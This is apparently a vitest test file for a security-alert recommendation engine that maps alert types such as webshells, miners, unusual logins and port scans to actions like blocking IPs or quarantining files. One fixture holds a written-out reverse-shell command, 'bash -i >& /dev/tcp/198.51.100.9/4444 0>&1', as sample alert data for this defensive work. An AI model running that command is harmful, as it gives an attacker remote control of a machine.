import { describe, expect, it } from 'vitest';
import { toAlert } from '../../../src/alerts/alert.js';
import { isKnownOperationCode } from '../../../src/alerts/operation-codes.js';
import {
  FALLBACK_RECOMMENDATION,
  RECOMMENDATION_RULES,
  type RecommendationRule,
  recommend,
} from '../../../src/alerts/recommend.js';
import type { SuspEvent } from '../../../src/generated/index.js';

let nextId = 1;
const alert = (event: Omit<SuspEvent, 'Id'>) => toAlert({ Id: nextId++, ...event });

describe('recommend', () => {
  it('ai-false-positive: ignores what the AI rates a suspected false positive, before any other rule', () => {
    const rec = recommend(
      alert({
        AlarmEventType: 'Webshell',
        AlarmEventName: 'webshell_php',
        SupportOperateCode: 'AI.false_positive',
      }),
    );
    expect(rec).toMatchObject({ operation: 'ignore', rule: 'ai-false-positive' });
    expect(recommend(alert({ AlarmEventType: 'Webshell', SupportOperateCode: 'AI.real_attack' })).rule).toBe(
      'webshell',
    );
  });

  it('unusual-login: blocks the source IP of unusual logins and brute force', () => {
    const expected = {
      operation: 'block_ip',
      reason: 'Unusual login behavior detected',
      rule: 'unusual-login',
    };
    expect(
      recommend(alert({ AlarmEventType: 'Unusual Logon', AlarmEventName: 'login_common_location' })),
    ).toEqual(expected);
    expect(recommend(alert({ AlarmEventType: '异常登录' }))).toEqual(expected);
    expect(recommend(alert({ AlarmEventName: 'ssh_brute_force' }))).toEqual(expected);
  });

  it('webshell: quarantines the webshell file', () => {
    const expected = {
      operation: 'quara',
      reason: 'Webshell file detected: quarantine it',
      rule: 'webshell',
    };
    expect(recommend(alert({ AlarmEventType: 'Webshell', AlarmEventName: 'webshell_php' }))).toEqual(
      expected,
    );
    expect(recommend(alert({ AlarmEventType: 'Persistent webshell' }))).toEqual(expected);
    expect(recommend(alert({ AlarmEventTypeDisplay: '网站后门(本地查杀)' }))).toEqual(expected);
  });

  it('malicious-file: quarantines a malicious file that is not running', () => {
    expect(
      recommend(alert({ AlarmEventType: 'Others', AlarmEventName: 'malicious_file_found' })),
    ).toMatchObject({
      operation: 'virus_quara',
      rule: 'malicious-file',
    });
    expect(recommend(alert({ AlarmEventNameDisplay: '恶意文件' })).rule).toBe('malicious-file');
  });

  it('malicious-process: kills and quarantines malicious processes, miners, trojans and viruses', () => {
    for (const event of [
      { AlarmEventType: 'Malicious process', AlarmEventName: 'malicious_process_miner' },
      { AlarmEventType: 'Malicious process (cloud threat detection)' },
      { AlarmEventType: '恶意进程(本地查杀)' },
      { AlarmEventNameDisplay: 'Mining program' },
      { AlarmEventName: 'linux_trojan' },
      { AlarmEventNameDisplay: '挖矿程序' },
    ]) {
      expect(recommend(alert(event))).toMatchObject({
        operation: 'kill_and_quara',
        rule: 'malicious-process',
      });
    }
    expect(recommend(alert({ AlarmEventNameDisplay: 'Determiner check' })).rule).toBe('fallback');
  });

  it('suspicious-process-with-file: kills and quarantines a suspicious process that runs from a file', () => {
    const rec = recommend(
      alert({
        AlarmEventType: 'Suspicious process',
        AlarmEventName: 'suspicious_binary',
        Details: [{ NameDisplay: 'File MD5', Value: 'd41d8cd98f00b204e9800998ecf8427e' }],
      }),
    );
    expect(rec).toMatchObject({ operation: 'kill_and_quara', rule: 'suspicious-process-with-file' });
  });

  it('suspicious-process: a process path alone is not a file to quarantine', () => {
    const rec = recommend(
      alert({
        AlarmEventType: 'Suspicious process',
        AlarmEventName: 'suspicious_binary',
        Details: [{ NameDisplay: 'Process path', Value: '/tmp/.x/run' }],
      }),
    );
    expect(rec).toMatchObject({ operation: 'kill_process', rule: 'suspicious-process' });
  });

  it('suspicious-process: kills a suspicious process without a file, such as a reverse shell', () => {
    const rec = recommend(
      alert({
        AlarmEventType: 'Suspicious process',
        AlarmEventName: 'reverse_shell',
        Details: [{ NameDisplay: 'Command line', Value: 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1' }],
      }),
    );
    expect(rec).toMatchObject({ operation: 'kill_process', rule: 'suspicious-process' });
    expect(recommend(alert({ AlarmEventNameDisplay: '反弹Shell' })).rule).toBe('suspicious-process');
  });

  it('suspicious-network: blocks the remote IP of suspicious connections and port scans', () => {
    expect(recommend(alert({ AlarmEventType: 'Suspicious network connection' }))).toMatchObject({
      operation: 'block_ip',
      rule: 'suspicious-network',
    });
    expect(recommend(alert({ AlarmEventName: 'outbound_port_scan' })).rule).toBe('suspicious-network');
    expect(recommend(alert({ AlarmEventType: '恶意网络行为' })).rule).toBe('suspicious-network');
  });

  it('suspicious-account: asks for a manual check of the account', () => {
    const rec = recommend(
      alert({ AlarmEventType: 'Suspicious account', AlarmEventName: 'new_privileged_account' }),
    );
    expect(rec).toMatchObject({ operation: 'manual_handled', rule: 'suspicious-account' });
    expect(rec.reason).toMatch(/verify the account manually/);
    expect(recommend(alert({ AlarmEventType: '异常账号' })).rule).toBe('suspicious-account');
  });

  it('sensitive-file-tampering: asks for a manual check of the change', () => {
    expect(
      recommend(alert({ AlarmEventType: 'Sensitive file tampering', AlarmEventName: 'crontab_modified' })),
    ).toMatchObject({ operation: 'manual_handled', rule: 'sensitive-file-tampering' });
    expect(recommend(alert({ AlarmEventType: '敏感文件篡改' })).rule).toBe('sensitive-file-tampering');
  });

  it('fallback: recommends a manual review when no rule matches', () => {
    expect(recommend(alert({ AlarmEventType: 'Precise defense', AlarmEventName: 'defense_hit' }))).toEqual(
      FALLBACK_RECOMMENDATION,
    );
    expect(recommend(alert({}))).toEqual({
      operation: 'manual_handled',
      reason: 'No rule matched: review manually',
      rule: 'fallback',
    });
  });

  it('has a test above for every built-in rule, unique ids and known operations', () => {
    const ids = RECOMMENDATION_RULES.map((rule) => rule.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids).toEqual([
      'ai-false-positive',
      'unusual-login',
      'webshell',
      'malicious-file',
      'malicious-process',
      'suspicious-process-with-file',
      'suspicious-process',
      'suspicious-network',
      'suspicious-account',
      'sensitive-file-tampering',
    ]);
    for (const rule of RECOMMENDATION_RULES) expect(isKnownOperationCode(rule.operation)).toBe(true);
  });

  it('takes custom rules, first match wins', () => {
    const rules: RecommendationRule[] = [
      { id: 'first', matches: { names: [/x/] }, operation: 'ignore', reason: 'first' },
      { id: 'second', matches: { names: [/x/] }, operation: 'block_ip', reason: 'second' },
    ];
    expect(recommend(alert({ AlarmEventName: 'x' }), rules).rule).toBe('first');
    expect(recommend(alert({ AlarmEventName: 'y' }), rules).rule).toBe('fallback');
  });
});
